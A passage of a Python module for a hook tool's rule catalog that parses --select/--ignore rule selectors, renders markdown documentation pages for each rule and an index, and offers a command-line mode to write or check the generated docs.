# ----------------------------------------------------------------------------- select / ignore


def _selectors(items: Iterable[str] | str | None) -> list[str]:
    if items is None:
        return []
    if isinstance(items, str):
        items = [items]
    out: list[str] = []
    for item in items:
        out.extend(part.strip() for part in item.split(",") if part.strip())
    return out


def _normalise(selector: str) -> str:
    """Validate one selector and return its canonical prefix; ``ALL`` means every rule."""
    upper = selector.upper()
    if upper == "ALL":
        return PREFIX
    if any(code.startswith(upper) for code in RULES) and upper.startswith(PREFIX):
        return upper
    raise UsageError(f"unknown rule selector {selector!r}{did_you_mean(selector)}")


def select(
    select: Iterable[str] | str | None = None, ignore: Iterable[str] | str | None = None
) -> Callable[[str], bool]:
    """Return ``enabled(code) -> bool`` with ruff's --select/--ignore semantics.

    Selectors are codes or prefixes (``VE``, ``VE2``, ``VE201``, ``ALL``; items may be
    comma-separated). For each code the longest matching selector decides, so ``ignore VE2``
    with ``select VE201`` keeps VE201 on; at equal length ``ignore`` wins. ``select`` defaults
    to every rule. Unknown selectors raise ``UsageError`` with a did-you-mean.
    """
    chosen = [_normalise(s) for s in _selectors(select)] or [PREFIX]
    dropped = [_normalise(s) for s in _selectors(ignore)]

    def enabled(code: str) -> bool:
        code = code.upper()
        best_on = max((len(s) for s in chosen if code.startswith(s)), default=-1)
        best_off = max((len(s) for s in dropped if code.startswith(s)), default=-1)
        return best_on > best_off

    return enabled


# ----------------------------------------------------------------------------- documentation


def render_markdown(rule: RuleInfo) -> str:
    """The rule's documentation page (the same text ``ve rule CODE`` prints and SARIF embeds)."""
    fix = f"yes, with `{rule.fix_command}`" if rule.fixable else "no"
    return (
        f"# {rule.code} {rule.name}\n\n"
        f"{rule.summary}.\n\n"
        f"- Family: {rule.family} ({FAMILY_TITLES[rule.family]})\n"
        f"- Default severity: {rule.default_severity.value}\n"
        f"- Fixable: {fix}\n"
        f"- Disable with `--ignore {rule.code}`\n\n"
        f"## What it does\n\n{rule.what_it_does}\n\n"
        f"## Why is this bad?\n\n{rule.why_bad}\n\n"
        f"## Example\n\n{rule.example}\n\n"
        f"## Use instead\n\n{rule.use_instead}\n"
    )


def render_index() -> str:
    """``docs/rules/README.md``: one table per family linking every rule page."""
    lines = [
        "# ve-hooks rules",
        "",
        "<!-- Generated by `python -m ve_hooks.rules.catalog --write-docs docs/rules`; do not edit. -->",
        "",
        "Every diagnostic carries one of these codes. Select or ignore them by code or prefix "
        "(`--select VE2 --ignore VE205`); the more specific selector wins. `ve rule CODE` prints a "
        "page in the terminal. `[*]` marks rules with an automatic fix.",
        "",
    ]
    for family, rules in families().items():
        if not rules:
            continue
        lines += [f"## {FAMILY_TITLES[family]}", "", "| Code | Name | Severity | Summary |",
                  "|------|------|----------|---------|"]
        for r in rules:
            mark = " [*]" if r.fixable else ""
            summary = r.summary.replace("|", "\\|")
            lines.append(f"| [{r.code}]({r.code}.md) | {r.name}{mark} | {r.default_severity.value} | {summary} |")
        lines.append("")
    return "\n".join(lines)


def expected_docs() -> dict[str, str]:
    """File name -> content of every generated page: what ``docs/rules/`` must contain."""
    pages = {f"{code}.md": render_markdown(rule) for code, rule in sorted(RULES.items())}
    pages["README.md"] = render_index()
    return pages


def write_docs(directory: Path) -> list[Path]:
    """Write the pages, removing stale ``VE*.md`` pages; returns the files that changed."""
    directory.mkdir(parents=True, exist_ok=True)
    pages = expected_docs()
    changed: list[Path] = []
    for stale in directory.glob(f"{PREFIX}*.md"):
        if stale.name not in pages:
            stale.unlink()
            changed.append(stale)
    for name, content in pages.items():
        path = directory / name
        if not path.exists() or path.read_text(encoding="utf-8") != content:
            path.write_text(content, encoding="utf-8", newline="\n")
            changed.append(path)
    return changed


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m ve_hooks.rules.catalog --write-docs DIR`` (or ``--check DIR`` for CI)."""
    parser = argparse.ArgumentParser(prog="python -m ve_hooks.rules.catalog")
    group = parser.add_mutually_exclusive_group(required=True)
    group.add_argument("--write-docs", metavar="DIR", type=Path, help="write docs/rules pages")
    group.add_argument("--check", metavar="DIR", type=Path, help="exit 1 if DIR is out of date")
    args = parser.parse_args(argv)
    if args.write_docs is not None:
        for path in write_docs(args.write_docs):
            print(f"Wrote {path}")
        return 0
    pages = expected_docs()
    stale = [name for name, content in pages.items()
             if not (args.check / name).is_file() or (args.check / name).read_text(encoding="utf-8") != content]
    extra = [p.name for p in args.check.glob(f"{PREFIX}*.md") if p.name not in pages]
    for name in stale + extra:
        print(f"{args.check / name} is out of date", file=sys.stderr)
    if stale or extra:
        print("Run: python -m ve_hooks.rules.catalog --write-docs docs/rules", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
